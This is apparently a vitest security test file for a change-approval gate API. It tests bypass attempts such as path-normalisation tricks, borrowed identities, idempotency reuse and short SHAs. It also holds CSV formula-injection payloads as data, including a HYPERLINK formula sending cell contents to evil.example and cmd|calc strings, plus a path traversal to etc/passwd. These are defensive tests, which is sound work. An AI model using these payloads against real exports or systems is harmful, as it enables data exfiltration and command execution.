import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Database } from '../../src/db/client.ts';
import { buildChangeInput, loadPlan } from '../factories/change.ts';
import { buildConfig } from '../factories/config.ts';
import { buildAlertmanagerPayload, buildDeploymentInput, buildIncidentInput } from '../factories/incident.ts';
import { API_TOKEN, fakeClock, startTestApp, type TestApp } from '../support/app.ts';
import { createTestDatabase, truncateAll } from '../support/db.ts';

/**
 * Ways around the gate, tried through the HTTP API as an attacker or a careless user would:
 * each test reproduces a hole that let a risky change ship without the sign-off it needs.
 */

let app: TestApp;
let db: Database;
const clock = fakeClock();

beforeAll(async () => {
  db = await createTestDatabase();
  app = await startTestApp({ database: db, clock });
});
afterAll(() => app?.stop());
beforeEach(async () => {
  await truncateAll(db);
  clock.set(new Date('2026-11-02T10:00:00Z'));
});

const register = (o: Record<string, unknown>) => app.api('POST', '/api/changes', buildChangeInput(o));
const gate = async (key: string, query = '') => app.api('GET', `/api/changes/${key}/gate${query}`);
const SHA = '3f2a9c1d4e5b6a7c8d9e0f1a2b3c4d5e6f7a8b9c';

describe('the environment in another case', () => {
  for (const environment of ['Production', 'PRODUCTION', 'pRoDuCtIoN']) {
    it(`when a destructive plan is registered for "${environment}", then it is the production policy: critical, 2 sign-offs, stored lowercase`, async () => {
      const res = await register({ environment, service: 'infra', ai_assisted: false, author: { github: 'carol' }, terraform_plan: loadPlan('plan-destructive') });
      expect(res.status).toBe(201);
      expect(res.body).toMatchObject({ status: 'pending', environment: 'production', risk: { level: 'critical' }, approvals_required: 2 });
      expect((await gate(res.body.key)).status).toBe(202);
    });
  }

  it('when a change is deployed to "Production", then the deployment is stored lowercase and is a suspect of the next incident', async () => {
    const change = await register({ environment: 'production', author: { github: 'carol' }, ai_assisted: false });
    expect(change.body.status).toBe('approved');
    const dep = await app.api('POST', `/api/changes/${change.body.key}/deployments`, { environment: 'Production' });
    expect(dep).toMatchObject({ status: 201, body: { environment: 'production' } });
    clock.advance(10 * 60_000);
    const incident = await app.api('POST', '/api/incidents', { title: 'Checkout down', severity: 'sev1', services: ['checkout'] });
    expect(incident.body.suspects.map((s: { change: string }) => s.change)).toEqual([change.body.key]);
  });

  describe('with environments configured', () => {
    let strict: TestApp;
    let strictDb: Database;
    beforeAll(async () => {
      strictDb = await createTestDatabase();
      strict = await startTestApp({ database: strictDb, clock, config: buildConfig({ environments: ['production', 'Staging'] }) });
    });
    afterAll(() => strict?.stop());

    it('when an unknown environment is sent, then 400 names environment and lists the known ones; another case of a known one is accepted', async () => {
      const res = await strict.api('POST', '/api/changes', buildChangeInput({ environment: 'prod' }));
      expect(res.status).toBe(400);
      expect(res.body.issues).toEqual([{ path: 'environment', message: 'unknown environment "prod"; known environments: production, staging' }]);
      const ok = await strict.api('POST', '/api/changes', buildChangeInput({ environment: 'STAGING' }));
      expect(ok).toMatchObject({ status: 201, body: { environment: 'staging' } });
      const dep = await strict.api('POST', `/api/changes/${ok.body.key}/deployments`, { environment: 'qa' });
      expect(dep.status).toBe(400);
      expect(dep.body.issues[0]).toMatchObject({ path: 'environment' });
    });

    it('when a rule names an environment the list does not have, then the config is refused naming the key', () => {
      expect(() => buildConfig({ environments: ['staging'] })).toThrow(/policy\.rules\[1\]\.when\.environment\[0\]: unknown environment "production"/);
    });
  });
});

describe('path tricks against paths_match', () => {
  const tricks = ['./src/auth/x.ts', 'src\\auth\\x.ts', 'src/./auth/x.ts', 'src//auth/x.ts', 'src/Auth/x.ts', 'SRC/AUTH/X.TS', 'src/lib/../auth/x.ts', '/src/auth/x.ts', './.github/workflows/ci.yml', '.GitHub/Workflows/ci.yml'];
  for (const path of tricks) {
    it(`when an AI-assisted senior touches ${JSON.stringify(path)}, then the sensitive-paths rule still matches and the stored path is normalised`, async () => {
      const res = await register({ author: { github: 'alice' }, ai_assisted: true, diff: { files_changed: 1, additions: 1, deletions: 0, paths: [path] } });
      expect(res.status).toBe(201);
      expect(res.body.risk.reasons.map((r: { rule: string }) => r.rule)).toEqual(['ai-change-to-sensitive-paths']);
      expect(res.body).toMatchObject({ status: 'pending', approvals_required: 1 });
      expect(res.body.diff.paths[0]).not.toMatch(/^\.\/|\\|\/\/|\/\.\/|\.\.|^\//);
    });
  }

  it('when a path climbs above the repository root, then 400 names that path', async () => {
    const res = await register({ diff: { files_changed: 2, additions: 1, deletions: 0, paths: ['src/ok.ts', 'src/../../etc/passwd'] } });
    expect(res.status).toBe(400);
    expect(res.body.issues).toEqual([{ path: 'diff.paths[1]', message: '"src/../../etc/passwd" climbs above the repository root (..)' }]);
  });
});

describe('borrowed identities', () => {
  it('when the author fields name two engineers (a senior’s GitHub login with a Slack id nobody has), then 400 names author', async () => {
    const res = await register({ author: { github: 'alice', slack_id: 'U0NOBODY' } });
    expect(res.status).toBe(400);
    expect(res.body.issues).toEqual([{ path: 'author', message: 'slack_id U0NOBODY contradicts github alice, who is Alice (U0ALICE)' }]);
    const two = await register({ author: { github: 'alice', email: 'jdoe@example.com' } });
    expect(two.status).toBe(400);
    expect(two.body.issues[0].path).toBe('author');
  });
});

describe('the idempotency key', () => {
  it('when the same key comes with the same body, then 200 and the stored change; with another body, 409 idempotency_conflict', async () => {
    const body = buildChangeInput({ external_id: 'build-77', ai_assisted: false, author: { github: 'carol' } });
    const first = await app.api('POST', '/api/changes', body);
    expect(first.body.status).toBe('approved');
    const again = await app.api('POST', '/api/changes', { ...body, diff: body.diff });
    expect(again).toMatchObject({ status: 200, body: { key: first.body.key } });
    const sneaky = await app.api('POST', '/api/changes', { ...body, ai_assisted: true, terraform_plan: loadPlan('plan-destructive') });
    expect(sneaky.status).toBe(409);
    expect(sneaky.body).toMatchObject({ error: 'idempotency_conflict', key: first.body.key });
  });
});

describe('full SHAs only', () => {
  it('when head_sha is an abbreviation, then 400; a stored full SHA answers to a prefix of it, and nothing answers to a longer string', async () => {
    const short = await register({ head_sha: SHA.slice(0, 7) });
    expect(short.status).toBe(400);
    expect(short.body.issues[0]).toMatchObject({ path: 'head_sha' });
    const res = await register({ head_sha: SHA.toUpperCase(), author: { github: 'carol' }, ai_assisted: false });
    expect(res.body).toMatchObject({ status: 'approved', head_sha: SHA });
    expect((await gate(res.body.key, `?sha=${SHA.slice(0, 7)}`)).status).toBe(200);
    expect((await gate(res.body.key, `?sha=${SHA}ab`)).status).toBe(409);
  });
});

describe('who really called', () => {
  const DEPLOY_TOKEN = 'deployer-token-123456';
  const PAGER_TOKEN = 'pager-token-123456';
  const ALERTS_TOKEN = 'alertmanager-token-123456';
  let scoped: TestApp;
  let scopedDb: Database;
  beforeAll(async () => {
    scopedDb = await createTestDatabase();
    const tokens = `ci:${API_TOKEN},deployer:${DEPLOY_TOKEN}:deploy,pager:${PAGER_TOKEN}:submit,alerts:${ALERTS_TOKEN}:submit`;
    scoped = await startTestApp({ database: scopedDb, clock, env: { COUNTERSIGN_API_TOKENS: tokens } });
  });
  afterAll(() => scoped?.stop());
  const as = (token: string) => ({ authorization: `Bearer ${token}` });

  it('when changes are registered, cancelled and deployed, and incidents declared, resolved and opened by Alertmanager through the API, then every audit event records the token that called', async () => {
    const cancelled = await scoped.api('POST', '/api/changes', buildChangeInput({}));
    expect(cancelled.status).toBe(201);
    await scoped.api('POST', `/api/changes/${cancelled.body.key}/cancel`, { by: 'U0ALICE', reason: 'dup' });
    const history = (await scoped.api('GET', `/api/changes/${cancelled.body.key}`)).body.history as { action: string; actor: string; via?: string }[];
    expect(history.map((h) => [h.action, h.actor, h.via])).toEqual([
      ['change_registered', 'ci', 'token:ci'],
      ['status_changed', 'policy', 'token:ci'],
      ['status_changed', 'U0ALICE', 'token:ci'],
    ]);

    const deployed = await scoped.api('POST', '/api/changes', buildChangeInput({ ai_assisted: false, author: { github: 'carol' } }));
    expect(deployed.body.status).toBe('approved');
    const deployment = await scoped.api('POST', `/api/changes/${deployed.body.key}/deployments`, buildDeploymentInput(), as(DEPLOY_TOKEN));
    expect(deployment.status).toBe(201);
    clock.advance(5 * 60_000);
    const incident = await scoped.api('POST', '/api/incidents', buildIncidentInput(), as(PAGER_TOKEN));
    expect(incident.status).toBe(201);
    expect((await scoped.api('POST', `/api/incidents/${incident.body.key}/resolve`, { by: 'U0DAVE' }, as(PAGER_TOKEN))).status).toBe(200);
    const fired = await scoped.api('POST', '/webhooks/alertmanager', buildAlertmanagerPayload({ groupKey: 'g-via' }), as(ALERTS_TOKEN));
    expect(fired.body).toMatchObject({ action: 'opened' });
    const raised = await scoped.api('POST', '/webhooks/alertmanager', buildAlertmanagerPayload({ groupKey: 'g-via', commonLabels: { alertname: 'CheckoutErrors', service: 'checkout', severity: 'warning' }, commonAnnotations: { summary: 'Checkout is slow' } }), as(ALERTS_TOKEN));
    expect(raised.body).toMatchObject({ action: 'updated' });
    const resolved = await scoped.api('POST', '/webhooks/alertmanager', buildAlertmanagerPayload({ groupKey: 'g-via', status: 'resolved' }), as(ALERTS_TOKEN));
    expect(resolved.body).toMatchObject({ action: 'resolved' });

    const events = (await scoped.api('GET', '/api/audit?from=1')).body.events as { action: string; actor: string; data: { via?: string; incident?: string } }[];
    const later = events.filter((e) => ['deployment_recorded', 'incident_declared', 'incident_updated', 'incident_resolved'].includes(e.action));
    expect(later.map((e) => [e.action, e.actor, e.data.incident ?? null, e.data.via])).toEqual([
      ['deployment_recorded', 'deployer', null, 'token:deployer'],
      ['incident_declared', 'pager', incident.body.key, 'token:pager'],
      ['incident_resolved', 'U0DAVE', incident.body.key, 'token:pager'],
      ['incident_declared', 'alertmanager', fired.body.incident, 'token:alerts'],
      ['incident_updated', 'alertmanager', fired.body.incident, 'token:alerts'],
      ['incident_resolved', 'alertmanager', fired.body.incident, 'token:alerts'],
    ]);
  });
});

describe('the audit CSV', () => {
  it('when a claimed actor looks like a spreadsheet formula, then its cell starts with a quote, and a long one is cut to 100 characters', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const long = `@${'x'.repeat(300)}`;
    const claims = [formula, '+1+cmd|calc', '-2-cmd|calc', '  =1+1', long];
    for (const by of claims) {
      const res = await register({});
      expect((await app.api('POST', `/api/changes/${res.body.key}/cancel`, { by, reason: '+1 -2 @x' })).status).toBe(200);
    }
    const json = (await app.api('GET', '/api/audit?from=1')).body.events as { actor: string }[];
    expect(json.map((e) => e.actor).filter((a) => a.startsWith('@'))).toEqual([long.slice(0, 100)]);
    const csv = await fetch(`${app.url}/api/audit?from=1&format=csv`, { headers: { authorization: `Bearer ${API_TOKEN}` } }).then((r) => r.text());
    const lines = csv.split('\r\n');
    const actors = lines.slice(1, -1).map((l) => l.split(',')[2]).filter((a) => a !== 'ci' && a !== 'policy');
    expect(actors).toEqual([`"'=HYPERLINK(""http://evil.example/?""&A1`, "'+1+cmd|calc", "'-2-cmd|calc", "'=1+1", `'@${'x'.repeat(99)}`]);
    expect(lines.some((l) => l.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`))).toBe(true);
    expect(lines.every((l) => !/^[^,]*,[^,]*,[=+\-@\t\r]/.test(l))).toBe(true);
  });
});
